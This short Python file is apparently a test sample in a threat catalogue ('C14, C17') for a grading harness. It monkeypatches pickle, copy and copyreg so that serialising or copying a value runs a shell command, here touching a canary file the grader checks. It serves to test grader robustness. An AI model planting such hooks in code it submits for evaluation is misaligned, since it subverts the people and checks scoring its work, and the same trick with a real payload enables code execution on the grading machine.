"""Replaces pickle's functions, its table of reducers and copy's, so that whoever stores or copies a value runs a command.

Threat: C14, C17.
"""

import copy
import copyreg
import os
import pickle

import numpy as np


def run(*_, **__):
    os.system("touch /tmp/unpickled_by_the_grader")
    return 1.0


pickle.dump = pickle.dumps = pickle.load = pickle.loads = copy.copy = copy.deepcopy = run
copyreg.pickle(np.ndarray, lambda array: (run, ()))
copyreg.dispatch_table[float] = copyreg.dispatch_table[type(None)] = lambda value: (run, ())


class Array(np.ndarray):
    def __reduce_ex__(self, protocol):
        return run, ()


def square(x):
    return x.view(Array)
